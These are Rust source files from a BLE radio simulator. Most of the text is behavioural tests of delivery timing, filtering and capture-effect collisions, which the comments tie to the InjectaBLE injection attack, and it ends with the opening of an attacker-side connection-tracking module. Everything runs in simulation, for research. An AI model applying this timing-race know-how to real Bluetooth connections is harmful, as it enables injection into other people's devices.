        sharded.scheduled_rx_starts
    );
}
