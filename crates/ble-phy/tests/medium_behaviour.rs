//! Behavioural tests of the radio medium: delivery, timing, the
//! first-lock-wins race and capture-effect collision resolution — the exact
//! semantics the InjectaBLE attack depends on.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code may panic freely

use ble_phy::{
    AccessAddress, AccessFilter, Channel, Environment, NodeConfig, NodeCtx, Position, RadioEvent,
    RadioListener, RawFrame, ReceivedFrame, TimerKey, World,
};
use simkit::{DriftClock, Duration, Instant, SimRng};

/// A scriptable listener: records every event and optionally reacts.
/// Scripts are installed before the recorder is moved into the world;
/// recorded events are read back through [`World::node`] afterwards.
#[derive(Default)]
struct Recorder {
    events: Vec<RadioEvent>,
    /// Frames to transmit when a given timer key fires: (key, channel, frame).
    on_timer_tx: Vec<(u64, Channel, RawFrame)>,
    /// Open RX on this channel/filter when timer fires: (key, channel, filter, crc_init).
    on_timer_rx: Vec<(u64, Channel, AccessFilter, u32)>,
    /// Close the receiver when a timer with this key fires.
    on_timer_stop: Vec<u64>,
}

impl Recorder {
    fn received(&self) -> Vec<&ReceivedFrame> {
        self.events
            .iter()
            .filter_map(|e| match e {
                RadioEvent::FrameReceived(f) => Some(f),
                _ => None,
            })
            .collect()
    }
    fn syncs(&self) -> usize {
        self.events
            .iter()
            .filter(|e| matches!(e, RadioEvent::SyncDetected { .. }))
            .count()
    }
}

impl RadioListener for Recorder {
    fn on_event(&mut self, ctx: &mut NodeCtx<'_>, event: RadioEvent) {
        if let RadioEvent::Timer { key, .. } = &event {
            let actions_tx: Vec<_> = self
                .on_timer_tx
                .iter()
                .filter(|(k, _, _)| *k == key.0)
                .cloned()
                .collect();
            for (_, ch, frame) in actions_tx {
                ctx.transmit(ch, frame);
            }
            let actions_rx: Vec<_> = self
                .on_timer_rx
                .iter()
                .filter(|(k, _, _, _)| *k == key.0)
                .cloned()
                .collect();
            for (_, ch, filter, crc_init) in actions_rx {
                ctx.start_rx(ch, filter, crc_init);
            }
            if self.on_timer_stop.contains(&key.0) {
                ctx.stop_rx();
            }
        }
        self.events.push(event);
    }
}

fn ideal_sim() -> World {
    World::new(Environment::ideal(), SimRng::seed_from(42))
}

fn recorder(sim: &World, id: ble_phy::NodeId) -> &Recorder {
    sim.node::<Recorder>(id).expect("node is a Recorder")
}

const AA: AccessAddress = AccessAddress::new(0x50C2_33A1);
const CH: Channel = match Channel::new(5) {
    Some(c) => c,
    None => unreachable!(),
};

fn frame(bytes: &[u8]) -> RawFrame {
    RawFrame::new(AA, bytes.to_vec(), 0xABCDEF)
}

#[test]
fn world_is_send() {
    fn assert_send<T: Send>(_: &T) {}
    let sim = ideal_sim();
    assert_send(&sim);
}

#[test]
fn typed_node_access_downcasts() {
    let mut sim = ideal_sim();
    let id = sim.add_node(NodeConfig::new("r", Position::ORIGIN), Recorder::default());
    assert!(sim.node::<Recorder>(id).is_some());
    assert!(sim.node_mut::<Recorder>(id).is_some());
    struct Other;
    impl RadioListener for Other {
        fn on_event(&mut self, _ctx: &mut NodeCtx<'_>, _event: RadioEvent) {}
    }
    assert!(sim.node::<Other>(id).is_none());
    sim.node_mut::<Recorder>(id)
        .unwrap()
        .on_timer_tx
        .push((1, CH, frame(&[1])));
    let got = sim.with_node_ctx::<Recorder, usize>(id, |rec, ctx| {
        assert_eq!(ctx.node_id(), id);
        rec.on_timer_tx.len()
    });
    assert_eq!(got, Some(1));
}

#[test]
fn on_start_is_dispatched_by_world_start() {
    struct Starter {
        started: bool,
    }
    impl RadioListener for Starter {
        fn on_start(&mut self, ctx: &mut NodeCtx<'_>) {
            self.started = true;
            ctx.set_timer_local(Duration::from_micros(10), TimerKey(3));
        }
        fn on_event(&mut self, _ctx: &mut NodeCtx<'_>, _event: RadioEvent) {}
    }
    let mut sim = ideal_sim();
    let id = sim.add_node(
        NodeConfig::new("s", Position::ORIGIN),
        Starter { started: false },
    );
    assert!(!sim.node::<Starter>(id).unwrap().started);
    sim.start(id);
    assert!(sim.node::<Starter>(id).unwrap().started);
}

#[test]
fn frame_is_delivered_with_correct_timing_and_content() {
    let mut sim = ideal_sim();
    let tx_id = sim.add_node(
        NodeConfig::new("tx", Position::new(0.0, 0.0)),
        Recorder::default(),
    );
    let rx_id = sim.add_node(
        NodeConfig::new("rx", Position::new(2.0, 0.0)),
        Recorder::default(),
    );
    sim.with_ctx(rx_id, |ctx| {
        ctx.start_rx(CH, AccessFilter::One(AA), 0xABCDEF)
    });
    let handle = sim.with_ctx(tx_id, |ctx| ctx.transmit(CH, frame(&[1, 2, 3, 4])));
    sim.run_for(Duration::from_millis(1));

    let rx = recorder(&sim, rx_id);
    let frames = rx.received();
    assert_eq!(frames.len(), 1);
    let f = frames[0];
    assert_eq!(f.pdu, vec![1, 2, 3, 4]);
    assert!(f.crc_ok);
    assert_eq!(f.access_address, AA);
    // 1+4+4+3 = 12 bytes → 96 µs on LE 1M.
    assert_eq!((f.end - f.start).as_micros(), 96);
    assert_eq!(handle.end - handle.start, f.end - f.start);
    // Propagation at 2 m is ~7 ns.
    assert!(f.start.signed_delta_ns(handle.start).abs() < 20);
    assert_eq!(rx.syncs(), 1);

    // The transmitter got TxDone at frame end.
    let tx = recorder(&sim, tx_id);
    assert!(tx
        .events
        .iter()
        .any(|e| matches!(e, RadioEvent::TxDone { at } if *at == handle.end)));
}

#[test]
fn wrong_access_address_is_filtered_but_promiscuous_hears_it() {
    let mut sim = ideal_sim();
    let tx_id = sim.add_node(NodeConfig::new("tx", Position::ORIGIN), Recorder::default());
    let s1 = sim.add_node(
        NodeConfig::new("strict", Position::new(1.0, 0.0)),
        Recorder::default(),
    );
    let s2 = sim.add_node(
        NodeConfig::new("sniffer", Position::new(1.0, 1.0)),
        Recorder::default(),
    );
    sim.with_ctx(s1, |ctx| {
        ctx.start_rx(CH, AccessFilter::One(AccessAddress::new(0xDEAD_BEEF)), 0)
    });
    sim.with_ctx(s2, |ctx| ctx.start_rx(CH, AccessFilter::Any, 0xABCDEF));
    sim.with_ctx(tx_id, |ctx| ctx.transmit(CH, frame(&[9])));
    sim.run_for(Duration::from_millis(1));

    assert!(recorder(&sim, s1).received().is_empty());
    let sniffer = recorder(&sim, s2);
    assert_eq!(sniffer.received().len(), 1);
    assert!(sniffer.received()[0].crc_ok, "matching crc_init validates");
}

#[test]
fn wrong_crc_init_fails_crc_check() {
    let mut sim = ideal_sim();
    let t = sim.add_node(NodeConfig::new("tx", Position::ORIGIN), Recorder::default());
    let r = sim.add_node(
        NodeConfig::new("rx", Position::new(1.0, 0.0)),
        Recorder::default(),
    );
    sim.with_ctx(r, |ctx| ctx.start_rx(CH, AccessFilter::One(AA), 0x111111));
    sim.with_ctx(t, |ctx| ctx.transmit(CH, frame(&[1])));
    sim.run_for(Duration::from_millis(1));
    let rx = recorder(&sim, r);
    assert_eq!(rx.received().len(), 1);
    assert!(!rx.received()[0].crc_ok);
}

#[test]
fn different_channel_is_not_received() {
    let mut sim = ideal_sim();
    let t = sim.add_node(NodeConfig::new("tx", Position::ORIGIN), Recorder::default());
    let r = sim.add_node(
        NodeConfig::new("rx", Position::new(1.0, 0.0)),
        Recorder::default(),
    );
    sim.with_ctx(r, |ctx| {
        ctx.start_rx(Channel::new(6).unwrap(), AccessFilter::Any, 0)
    });
    sim.with_ctx(t, |ctx| ctx.transmit(CH, frame(&[1])));
    sim.run_for(Duration::from_millis(1));
    assert!(recorder(&sim, r).received().is_empty());
}

#[test]
fn first_frame_wins_the_lock_and_survives_when_stronger() {
    // The InjectaBLE race in miniature: an "attacker" transmits slightly
    // before the "master"; the receiver locks the attacker frame. With the
    // attacker much closer (ideal env = hard 0 dB capture threshold), the
    // attacker frame survives the collision.
    let mut sim = ideal_sim();
    let mut attacker = Recorder::default();
    attacker.on_timer_tx.push((1, CH, frame(&[0xAA; 4])));
    let mut master = Recorder::default();
    master.on_timer_tx.push((1, CH, frame(&[0x55; 4])));

    let a = sim.add_node(
        NodeConfig::new("attacker", Position::new(0.5, 0.0)),
        attacker,
    );
    let m = sim.add_node(NodeConfig::new("master", Position::new(4.0, 0.0)), master);
    let s = sim.add_node(
        NodeConfig::new("slave", Position::new(0.0, 0.0)),
        Recorder::default(),
    );

    // Script: attacker transmits at t=100 µs, master at t=130 µs (collides:
    // attacker frame is 96 µs long), slave listens from t=0.
    sim.with_ctx(s, |ctx| ctx.start_rx(CH, AccessFilter::One(AA), 0xABCDEF));
    sim.with_ctx(a, |ctx| {
        ctx.set_timer_at(Instant::from_micros(100), TimerKey(1));
    });
    sim.with_ctx(m, |ctx| {
        ctx.set_timer_at(Instant::from_micros(130), TimerKey(1));
    });
    sim.run_for(Duration::from_millis(1));

    let slave = recorder(&sim, s);
    let frames = slave.received();
    assert_eq!(frames.len(), 1, "only the locked frame is delivered");
    assert_eq!(frames[0].pdu, vec![0xAA; 4], "attacker frame won the race");
    assert!(frames[0].crc_ok, "attacker is closer: capture survives");
    assert!(
        frames[0]
            .start
            .signed_delta_ns(Instant::from_micros(100))
            .abs()
            < 100
    );
}

#[test]
fn locked_frame_is_corrupted_when_interferer_is_stronger() {
    let mut sim = ideal_sim();
    // Attacker far (8 m), master very close (0.5 m): master's frame crushes
    // the attacker's during the overlap.
    let mut attacker = Recorder::default();
    attacker.on_timer_tx.push((1, CH, frame(&[0xAA; 4])));
    let mut master = Recorder::default();
    master.on_timer_tx.push((1, CH, frame(&[0x55; 4])));

    let a = sim.add_node(
        NodeConfig::new("attacker", Position::new(8.0, 0.0)),
        attacker,
    );
    let m = sim.add_node(NodeConfig::new("master", Position::new(0.5, 0.0)), master);
    let s = sim.add_node(
        NodeConfig::new("slave", Position::ORIGIN),
        Recorder::default(),
    );

    sim.with_ctx(s, |ctx| ctx.start_rx(CH, AccessFilter::One(AA), 0xABCDEF));
    sim.with_ctx(a, |ctx| {
        ctx.set_timer_at(Instant::from_micros(100), TimerKey(1));
    });
    sim.with_ctx(m, |ctx| {
        ctx.set_timer_at(Instant::from_micros(130), TimerKey(1));
    });
    sim.run_for(Duration::from_millis(1));

    let slave = recorder(&sim, s);
    let frames = slave.received();
    assert_eq!(frames.len(), 1);
    assert!(
        frames[0]
            .start
            .signed_delta_ns(Instant::from_micros(100))
            .abs()
            < 100,
        "still locked first frame"
    );
    assert!(
        !frames[0].crc_ok,
        "strong interferer corrupts the locked frame"
    );
}

#[test]
fn corrupted_pdus_always_fail_crc_even_with_matching_crc_init() {
    // Regression guard: the receiver opened with the *same* CRC init the
    // transmitter used (rx_crc_init == tx_crc_init), so the init comparison
    // alone would report `crc_ok = true` — the collision path must still
    // force `crc_ok = false` on every frame whose bits it flips, and every
    // `crc_ok` frame must arrive bit-exact.
    let sent = [0xAA_u8; 4];
    let mut corrupted_seen = 0u32;
    for seed in 0..50u64 {
        let mut sim = World::new(Environment::ideal(), SimRng::seed_from(seed));
        let mut attacker = Recorder::default();
        attacker.on_timer_tx.push((1, CH, frame(&sent)));
        let mut master = Recorder::default();
        master.on_timer_tx.push((1, CH, frame(&[0x55; 4])));
        // Attacker far, master close: the locked attacker frame loses the
        // capture race and is corrupted before delivery.
        let a = sim.add_node(
            NodeConfig::new("attacker", Position::new(8.0, 0.0)),
            attacker,
        );
        let m = sim.add_node(NodeConfig::new("master", Position::new(0.5, 0.0)), master);
        let s = sim.add_node(
            NodeConfig::new("slave", Position::ORIGIN),
            Recorder::default(),
        );
        sim.with_ctx(s, |ctx| ctx.start_rx(CH, AccessFilter::One(AA), 0xABCDEF));
        sim.with_ctx(a, |ctx| {
            ctx.set_timer_at(Instant::from_micros(100), TimerKey(1));
        });
        sim.with_ctx(m, |ctx| {
            ctx.set_timer_at(Instant::from_micros(130), TimerKey(1));
        });
        sim.run_for(Duration::from_millis(1));
        for f in recorder(&sim, s).received() {
            if f.pdu[..] != sent {
                corrupted_seen += 1;
                assert!(!f.crc_ok, "corrupted PDU must fail CRC (seed {seed})");
            }
            if f.crc_ok {
                assert_eq!(
                    &f.pdu[..],
                    &sent,
                    "crc_ok frames must be delivered bit-exact (seed {seed})"
                );
            }
        }
    }
    assert!(
        corrupted_seen > 0,
        "the sweep must exercise the corruption path"
    );
}

#[test]
fn non_overlapping_frames_both_delivered() {
    let mut sim = ideal_sim();
    let mut a_rec = Recorder::default();
    a_rec.on_timer_tx.push((1, CH, frame(&[1])));
    let mut b_rec = Recorder::default();
    b_rec.on_timer_tx.push((1, CH, frame(&[2])));
    let a = sim.add_node(NodeConfig::new("a", Position::new(1.0, 0.0)), a_rec);
    let b = sim.add_node(NodeConfig::new("b", Position::new(0.0, 1.0)), b_rec);
    let r = sim.add_node(NodeConfig::new("rx", Position::ORIGIN), Recorder::default());
    sim.with_ctx(r, |ctx| ctx.start_rx(CH, AccessFilter::One(AA), 0xABCDEF));
    sim.with_ctx(a, |ctx| {
        ctx.set_timer_at(Instant::from_micros(100), TimerKey(1));
    });
    sim.with_ctx(b, |ctx| {
        ctx.set_timer_at(Instant::from_micros(400), TimerKey(1));
    });
    sim.run_for(Duration::from_millis(1));
    let rx = recorder(&sim, r);
    let frames = rx.received();
    assert_eq!(frames.len(), 2);
    assert!(frames.iter().all(|f| f.crc_ok));
}

#[test]
fn late_rx_open_within_grace_still_locks() {
    let mut sim = ideal_sim();
    let mut tx_rec = Recorder::default();
    tx_rec.on_timer_tx.push((1, CH, frame(&[7; 8])));
    // Receiver opens 1.5 µs *after* the frame's leading edge: within the
    // 2 µs quarter-preamble grace.
    let mut rx_rec = Recorder::default();
    rx_rec
        .on_timer_rx
        .push((2, CH, AccessFilter::One(AA), 0xABCDEF));
    let t = sim.add_node(NodeConfig::new("tx", Position::new(1.0, 0.0)), tx_rec);
    let r = sim.add_node(NodeConfig::new("rx", Position::ORIGIN), rx_rec);
    sim.with_ctx(t, |ctx| {
        ctx.set_timer_at(Instant::from_micros(100), TimerKey(1));
    });
    sim.with_ctx(r, |ctx| {
        ctx.set_timer_at(Instant::from_nanos(101_500), TimerKey(2));
    });
    sim.run_for(Duration::from_millis(1));
    let rx = recorder(&sim, r);
    assert_eq!(rx.received().len(), 1, "grace lock must catch the frame");
    assert!(rx.received()[0].crc_ok);
    assert_eq!(rx.syncs(), 1);
}

#[test]
fn late_rx_open_beyond_grace_misses_the_frame() {
    let mut sim = ideal_sim();
    let mut tx_rec = Recorder::default();
    tx_rec.on_timer_tx.push((1, CH, frame(&[7; 8])));
    let mut rx_rec = Recorder::default();
    rx_rec
        .on_timer_rx
        .push((2, CH, AccessFilter::One(AA), 0xABCDEF));
    let t = sim.add_node(NodeConfig::new("tx", Position::new(1.0, 0.0)), tx_rec);
    let r = sim.add_node(NodeConfig::new("rx", Position::ORIGIN), rx_rec);
    sim.with_ctx(t, |ctx| {
        ctx.set_timer_at(Instant::from_micros(100), TimerKey(1));
    });
    // 10 µs late: preamble is gone.
    sim.with_ctx(r, |ctx| {
        ctx.set_timer_at(Instant::from_micros(110), TimerKey(2));
    });
    sim.run_for(Duration::from_millis(1));
    assert!(recorder(&sim, r).received().is_empty());
}

#[test]
fn transmitting_node_cannot_receive_concurrently() {
    let mut sim = ideal_sim();
    let mut a_rec = Recorder::default();
    a_rec.on_timer_tx.push((1, CH, frame(&[1; 20])));
    let mut b_rec = Recorder::default();
    b_rec.on_timer_tx.push((1, CH, frame(&[2; 20])));
    let a = sim.add_node(NodeConfig::new("a", Position::ORIGIN), a_rec);
    let b = sim.add_node(NodeConfig::new("b", Position::new(1.0, 0.0)), b_rec);
    // Both transmit at the same instant; neither receives the other.
    sim.with_ctx(a, |ctx| {
        ctx.set_timer_at(Instant::from_micros(100), TimerKey(1));
    });
    sim.with_ctx(b, |ctx| {
        ctx.set_timer_at(Instant::from_micros(100), TimerKey(1));
    });
    sim.run_for(Duration::from_millis(1));
    assert!(recorder(&sim, a).received().is_empty());
    assert!(recorder(&sim, b).received().is_empty());
}

#[test]
fn out_of_range_frame_is_not_locked() {
    let mut env = Environment::ideal();
    env.path_loss_exponent = 4.0; // harsh environment
    let mut sim = World::new(env, SimRng::seed_from(1));
    let t = sim.add_node(
        NodeConfig::new("tx", Position::ORIGIN).with_tx_power(-20.0),
        Recorder::default(),
    );
    let r = sim.add_node(
        NodeConfig::new("rx", Position::new(500.0, 0.0)),
        Recorder::default(),
    );
    sim.with_ctx(r, |ctx| ctx.start_rx(CH, AccessFilter::Any, 0));
    sim.with_ctx(t, |ctx| ctx.transmit(CH, frame(&[1])));
    sim.run_for(Duration::from_millis(1));
    assert!(recorder(&sim, r).received().is_empty());
}

#[test]
fn drifting_clock_shifts_timer_firing() {
    let mut sim = ideal_sim();
    let fast = sim.add_node(
        NodeConfig::new("fast", Position::ORIGIN).with_clock(DriftClock::new(200.0, 200.0)),
        Recorder::default(),
    );
    sim.with_ctx(fast, |ctx| {
        ctx.set_timer_local(Duration::from_millis(100), TimerKey(9));
    });
    sim.run_for(Duration::from_millis(200));
    let rec = recorder(&sim, fast);
    let at = rec
        .events
        .iter()
        .find_map(|e| match e {
            RadioEvent::Timer { key, at } if key.0 == 9 => Some(*at),
            _ => None,
        })
        .expect("timer fired");
    // 200 ppm fast over 100 ms → fires ~20 µs early.
    let early_ns = Instant::from_millis_helper(100).signed_delta_ns(at);
    assert!(
        early_ns > 15_000 && early_ns < 25_000,
        "early by {early_ns} ns"
    );
}

trait InstantExt {
    fn from_millis_helper(ms: u64) -> Instant;
}
impl InstantExt for Instant {
    fn from_millis_helper(ms: u64) -> Instant {
        Instant::from_micros(ms * 1000)
    }
}

#[test]
fn capture_model_probabilistic_band_gives_mixed_outcomes() {
    // With the default (soft) capture model and equal powers, collisions
    // sometimes corrupt and sometimes don't — the paper's "phase difference"
    // luck. Run many independent seeds and check both outcomes occur.
    let mut survived = 0;
    let mut corrupted = 0;
    for seed in 0..60 {
        let mut sim = World::new(Environment::indoor_default(), SimRng::seed_from(seed));
        let mut a_rec = Recorder::default();
        a_rec.on_timer_tx.push((1, CH, frame(&[0xAA; 16])));
        let mut m_rec = Recorder::default();
        m_rec.on_timer_tx.push((1, CH, frame(&[0x55; 16])));
        let a = sim.add_node(NodeConfig::new("a", Position::new(2.0, 0.0)), a_rec);
        let m = sim.add_node(NodeConfig::new("m", Position::new(0.0, 2.0)), m_rec);
        let s = sim.add_node(NodeConfig::new("s", Position::ORIGIN), Recorder::default());
        sim.with_ctx(s, |ctx| ctx.start_rx(CH, AccessFilter::One(AA), 0xABCDEF));
        sim.with_ctx(a, |ctx| {
            ctx.set_timer_at(Instant::from_micros(100), TimerKey(1));
        });
        sim.with_ctx(m, |ctx| {
            ctx.set_timer_at(Instant::from_micros(140), TimerKey(1));
        });
        sim.run_for(Duration::from_millis(1));
        let s_rec = recorder(&sim, s);
        let frames = s_rec.received();
        assert_eq!(frames.len(), 1);
        if frames[0].crc_ok {
            survived += 1;
        } else {
            corrupted += 1;
        }
    }
    assert!(survived > 5, "some collisions must survive ({survived})");
    assert!(corrupted > 5, "some collisions must corrupt ({corrupted})");
}

/// Runs the same scenario under both delivery modes and asserts identical
/// observable behaviour — the listener-index maintenance tests below all
/// use this so every edge case is pinned against the broadcast oracle.
fn in_both_modes(scenario: impl Fn(ble_phy::DeliveryMode) -> Vec<String>) {
    let broadcast = scenario(ble_phy::DeliveryMode::FullBroadcast);
    let sharded = scenario(ble_phy::DeliveryMode::Sharded);
    assert_eq!(broadcast, sharded, "delivery modes diverged");
}

/// Ideal long-range setup: no fading (deterministic), transmitter powerful
/// enough to be heard 3 km away, where propagation takes ~10 µs — a wide
/// window for a receiver to open or close between `TxStart` and arrival.
fn long_range_world(mode: ble_phy::DeliveryMode) -> World {
    let mut sim = World::new(Environment::ideal(), SimRng::seed_from(9));
    sim.set_delivery_mode(mode);
    sim
}

const FAR: Position = Position::new(3_000.0, 0.0);

fn far_tx(sim: &mut World) -> ble_phy::NodeId {
    let mut tx = Recorder::default();
    tx.on_timer_tx.push((1, CH, frame(&[1, 2, 3, 4])));
    let id = sim.add_node(NodeConfig::new("tx", FAR).with_tx_power(20.0), tx);
    sim.with_ctx(id, |ctx| {
        ctx.set_timer_at(Instant::from_micros(100), TimerKey(1));
    });
    id
}

fn rx_log(sim: &World, id: ble_phy::NodeId) -> Vec<String> {
    recorder(sim, id)
        .events
        .iter()
        .map(|e| format!("{e:?}"))
        .collect()
}

#[test]
fn receiver_closing_between_tx_start_and_arrival_misses_the_frame() {
    // The frame leaves the antenna at t=100 µs and arrives ~10 µs later;
    // the receiver closes at t=105 µs, in between. Under sharded delivery
    // the RxStart edge was already scheduled (the node was listening at
    // transmit time) — it must arrive at a closed radio and do nothing,
    // exactly as the broadcast oracle's unconditional edge does.
    in_both_modes(|mode| {
        let mut sim = long_range_world(mode);
        far_tx(&mut sim);
        let mut rx = Recorder::default();
        rx.on_timer_stop.push(2);
        let r = sim.add_node(NodeConfig::new("rx", Position::ORIGIN), rx);
        sim.with_ctx(r, |ctx| ctx.start_rx(CH, AccessFilter::One(AA), 0xABCDEF));
        sim.with_ctx(r, |ctx| {
            ctx.set_timer_at(Instant::from_micros(105), TimerKey(2));
        });
        sim.run_for(Duration::from_millis(1));
        assert!(
            recorder(&sim, r).received().is_empty(),
            "a closed receiver must miss the in-flight frame"
        );
        assert_eq!(recorder(&sim, r).syncs(), 0);
        rx_log(&sim, r)
    });
}

#[test]
fn receiver_closing_and_reopening_before_arrival_hears_the_frame_once() {
    // Close at t=103 µs, reopen (same channel) at t=106 µs, arrival at
    // ~t=110 µs. Sharded delivery must not double-schedule the edge on the
    // reopen (the pending-arrival scan dedups against the transmission's
    // scheduled set) — a duplicate would make the receiver treat its own
    // locked frame as interference.
    in_both_modes(|mode| {
        let mut sim = long_range_world(mode);
        far_tx(&mut sim);
        let mut rx = Recorder::default();
        rx.on_timer_stop.push(2);
        rx.on_timer_rx
            .push((3, CH, AccessFilter::One(AA), 0xABCDEF));
        let r = sim.add_node(NodeConfig::new("rx", Position::ORIGIN), rx);
        sim.with_ctx(r, |ctx| ctx.start_rx(CH, AccessFilter::One(AA), 0xABCDEF));
        sim.with_ctx(r, |ctx| {
            ctx.set_timer_at(Instant::from_micros(103), TimerKey(2));
            ctx.set_timer_at(Instant::from_micros(106), TimerKey(3));
        });
        sim.run_for(Duration::from_millis(1));
        let rec = recorder(&sim, r);
        assert_eq!(rec.received().len(), 1, "exactly one delivery");
        assert!(rec.received()[0].crc_ok, "no phantom self-interference");
        assert_eq!(rec.syncs(), 1, "exactly one sync edge");
        rx_log(&sim, r)
    });
}

#[test]
fn receiver_opening_after_tx_start_hears_the_in_flight_frame() {
    // The receiver was deaf when the frame left the antenna and opens at
    // t=105 µs, before the ~t=110 µs arrival. Broadcast delivery scheduled
    // the edge unconditionally; sharded delivery must recreate it through
    // the pending-arrival scan in `start_rx`.
    in_both_modes(|mode| {
        let mut sim = long_range_world(mode);
        far_tx(&mut sim);
        let mut rx = Recorder::default();
        rx.on_timer_rx
            .push((2, CH, AccessFilter::One(AA), 0xABCDEF));
        let r = sim.add_node(NodeConfig::new("rx", Position::ORIGIN), rx);
        sim.with_ctx(r, |ctx| {
            ctx.set_timer_at(Instant::from_micros(105), TimerKey(2));
        });
        sim.run_for(Duration::from_millis(1));
        let rec = recorder(&sim, r);
        assert_eq!(rec.received().len(), 1, "pending scan must catch the frame");
        assert!(rec.received()[0].crc_ok);
        assert_eq!(rec.syncs(), 1);
        rx_log(&sim, r)
    });
}

#[test]
fn retune_mid_reception_drops_the_lock_and_follows_the_new_channel() {
    // The receiver locks a frame on CH at t≈100 µs, retunes to channel 6
    // mid-reception (t=150 µs), and a second transmitter fires on channel 6
    // at t=300 µs. The abandoned lock must deliver nothing; the new channel
    // must deliver — and the listener index must have moved the node so
    // sharded delivery schedules the second frame at all.
    in_both_modes(|mode| {
        let ch6 = Channel::new(6).unwrap();
        let mut sim = World::new(Environment::ideal(), SimRng::seed_from(4));
        sim.set_delivery_mode(mode);
        let mut t1 = Recorder::default();
        t1.on_timer_tx.push((1, CH, frame(&[0xAA; 20])));
        let a = sim.add_node(NodeConfig::new("t1", Position::new(1.0, 0.0)), t1);
        let mut t2 = Recorder::default();
        t2.on_timer_tx.push((1, ch6, frame(&[0xBB; 4])));
        let b = sim.add_node(NodeConfig::new("t2", Position::new(0.0, 1.0)), t2);
        let mut rx = Recorder::default();
        rx.on_timer_rx
            .push((2, ch6, AccessFilter::One(AA), 0xABCDEF));
        let r = sim.add_node(NodeConfig::new("rx", Position::ORIGIN), rx);
        sim.with_ctx(r, |ctx| ctx.start_rx(CH, AccessFilter::One(AA), 0xABCDEF));
        sim.with_ctx(a, |ctx| {
            ctx.set_timer_at(Instant::from_micros(100), TimerKey(1));
        });
        sim.with_ctx(r, |ctx| {
            ctx.set_timer_at(Instant::from_micros(150), TimerKey(2));
        });
        sim.with_ctx(b, |ctx| {
            ctx.set_timer_at(Instant::from_micros(300), TimerKey(1));
        });
        sim.run_for(Duration::from_millis(1));
        let rec = recorder(&sim, r);
        assert_eq!(rec.received().len(), 1, "only the channel-6 frame lands");
        assert_eq!(rec.received()[0].pdu, vec![0xBB; 4]);
        rx_log(&sim, r)
    });
}

#[test]
fn shared_radio_ignored_start_rx_keeps_the_listener_index_consistent() {
    // A shared-radio node (PR 8 slots) requests start_rx mid-transmission:
    // the request is ignored. The node must not appear in the listener
    // index — a frame transmitted later on that channel is missed until
    // the node genuinely reopens, identically in both modes.
    in_both_modes(|mode| {
        let mut sim = World::new(Environment::ideal(), SimRng::seed_from(8));
        sim.set_delivery_mode(mode);
        let mut shared = Recorder::default();
        shared.on_timer_tx.push((1, CH, frame(&[0x11; 20]))); // 224 µs airtime
        shared
            .on_timer_rx
            .push((2, CH, AccessFilter::One(AA), 0xABCDEF)); // ignored: still Tx
        shared
            .on_timer_rx
            .push((3, CH, AccessFilter::One(AA), 0xABCDEF)); // real reopen
        let s = sim.add_node(
            NodeConfig::new("shared", Position::ORIGIN).with_shared_radio(),
            shared,
        );
        let mut peer = Recorder::default();
        peer.on_timer_tx.push((1, CH, frame(&[0x22; 4])));
        let p = sim.add_node(NodeConfig::new("peer", Position::new(1.0, 0.0)), peer);
        sim.with_ctx(s, |ctx| {
            ctx.set_timer_at(Instant::from_micros(100), TimerKey(1)); // Tx 100..324 µs
            ctx.set_timer_at(Instant::from_micros(150), TimerKey(2)); // ignored
            ctx.set_timer_at(Instant::from_micros(400), TimerKey(3)); // reopen
        });
        sim.with_ctx(p, |ctx| {
            ctx.set_timer_at(Instant::from_micros(350), TimerKey(1)); // while s is deaf
        });
        sim.run_for(Duration::from_millis(1));
        let rec = recorder(&sim, s);
        assert!(
            rec.received().is_empty(),
            "the ignored start_rx must not leave the node listening"
        );
        // After the real reopen, a second peer frame lands.
        sim.with_ctx(p, |ctx| {
            ctx.set_timer_at(Instant::from_micros(1_500), TimerKey(1));
        });
        sim.run_for(Duration::from_millis(1));
        let rec = recorder(&sim, s);
        assert_eq!(rec.received().len(), 1, "reopened radio hears the frame");
        assert_eq!(rec.received()[0].pdu, vec![0x22; 4]);
        rx_log(&sim, s)
    });
}

#[test]
fn delivery_order_is_stable_across_identically_seeded_worlds() {
    // Regression for the `txs: HashMap → BTreeMap` migration (determinism
    // pass): with several transmissions in flight, the medium iterates the
    // active-transmission table while drawing per-candidate fading from the
    // shared RNG. The table now iterates in ascending tx-id order, so two
    // identically-seeded worlds must produce byte-identical event streams —
    // including the fading-dependent corrupt/survive verdicts — no matter
    // how many candidates overlap.
    fn run_world(seed: u64) -> Vec<String> {
        // indoor_default has log-normal fading: every interference candidate
        // consumes RNG, so a wrong iteration order shows up in the stream.
        let mut sim = World::new(Environment::indoor_default(), SimRng::seed_from(seed));
        let mut ids = Vec::new();
        for (i, (x, y)) in [(1.0, 0.0), (2.0, 1.0), (3.0, -1.0), (4.0, 2.0)]
            .iter()
            .enumerate()
        {
            let mut tx = Recorder::default();
            let marker = u8::try_from(i + 1).unwrap();
            tx.on_timer_tx.push((1, CH, frame(&[marker; 6])));
            ids.push(sim.add_node(NodeConfig::new(format!("tx{i}"), Position::new(*x, *y)), tx));
        }
        let rx = sim.add_node(NodeConfig::new("rx", Position::ORIGIN), Recorder::default());
        sim.with_ctx(rx, |ctx| ctx.start_rx(CH, AccessFilter::One(AA), 0xABCDEF));
        // Staggered starts 30 µs apart: all four frames overlap in the air,
        // so the interference scan sees multiple candidates at once.
        for (i, id) in ids.iter().enumerate() {
            sim.with_ctx(*id, |ctx| {
                ctx.set_timer_at(Instant::from_micros(100 + 30 * i as u64), TimerKey(1));
            });
        }
        sim.run_for(Duration::from_millis(2));
        let events = &recorder(&sim, rx).events;
        assert!(!events.is_empty(), "receiver must observe the pile-up");
        events.iter().map(|e| format!("{e:?}")).collect()
    }
    for seed in [7u64, 99, 12345] {
        assert_eq!(
            run_world(seed),
            run_world(seed),
            "identically-seeded worlds diverged at seed {seed}"
        );
    }
}
