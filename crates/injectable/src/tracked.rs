//! Passive connection tracking — the sniffer substrate of the attack.
//!
//! Following an established connection requires knowing every parameter of
//! `CONNECT_REQ` (paper Table II) and then mirroring the Slave's timing
//! logic: hop with CSA#1, predict anchors, widen expectations after missed
//! events, and apply `CONNECT_UPDATE` / `CHANNEL_MAP` procedures at their
//! instants. This module is the attacker's replica of that state.

use ble_link::{
    timing, ChannelMap, ConnectionParams, ControlPdu, Csa1, Csa2, DeviceAddress, UpdateRequest,
};
use ble_phy::{Channel, ReceivedFrame};
use simkit::{Duration, Instant};

/// The Slave sleep-clock accuracy the attacker assumes: 20 ppm, "the worst
/// case from the attacker's perspective" (paper §V-C).
pub const ASSUMED_SLAVE_SCA_PPM: f64 = 20.0;

/// Plan for one upcoming connection event, as computed by the tracker.
#[derive(Debug, Clone, Copy)]
